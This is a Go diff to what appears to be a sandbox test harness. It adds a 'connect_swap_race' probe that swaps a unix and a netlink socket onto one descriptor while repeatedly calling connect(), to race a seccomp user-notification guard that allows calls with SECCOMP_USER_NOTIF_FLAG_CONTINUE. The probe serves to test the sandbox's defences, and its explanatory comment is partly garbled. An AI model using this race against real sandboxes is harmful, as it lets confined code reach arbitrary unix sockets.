@@ -73,6 +73,8 @@ func attackProbe(action string, a []string) (out string, err error, known bool) 
 			break
 		}
 		err = unix.Listen(fd, 1)
+	case "connect_swap_race":
+		err = connectSwapRace(a[0], atoi(a[1]))
 	case "dgram_sendto":
 		err = withPair(unix.SOCK_DGRAM, func(fd int) error {
 			return unix.Sendto(fd, []byte("forged"), 0, &unix.SockaddrUnix{Name: a[0]})
@@ -522,4 +524,58 @@ func atCall(action, path string) error {
 		}
 	}
 	return errOrNil(e)
+}
+
+// connectSwapRace connects descriptor 100 to the unix socket path, tries
+// times, while another thread swaps a unix socket and a netlink one onto
+// 100. A guard that checked the socket it took, found netlink and had the
+// kernel make the app's own call (SECCOMP_USER_NOTIF_FLAG_CONTINUE) let
+// the kernel look the number up again: by then the unix socket, which it
+// connected to any path (a hostile review's). nil is a connect made.
+func connectSwapRace(path string, tries int) error {
+	const slot = 100
+	u, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
+	if err != nil {
+		return err
+	}
+	defer unix.Close(u)
+	n, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.NETLINK_ROUTE)
+	if err != nil {
+		return err
+	}
+	defer unix.Close(n)
+	if err := unix.Dup3(u, slot, unix.O_CLOEXEC); err != nil {
+		return err
+	}
+	var sa unix.RawSockaddrUnix
+	sa.Family = unix.AF_UNIX
+	for i := range len(path) {
+		sa.Path[i] = int8(path[i])
+	}
+	stop, done := make(chan struct{}), make(chan struct{})
+	go func() {
+		runtime.LockOSThread()
+		defer close(done)
+		for {
+			select {
+			case <-stop:
+				return
+			default:
+			}
+			unix.Dup3(u, slot, unix.O_CLOEXEC)
+			unix.Dup3(n, slot, unix.O_CLOEXEC)
+		}
+	}()
+	defer func() { close(stop); <-done }()
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+	var last error = unix.EINVAL
+	for range tries {
+		_, _, e := unix.Syscall(unix.SYS_CONNECT, slot, uintptr(unsafe.Pointer(&sa)), unsafe.Sizeof(sa))
+		if e == 0 {
+			return nil
+		}
+		last = e
+	}
+	return last
 }
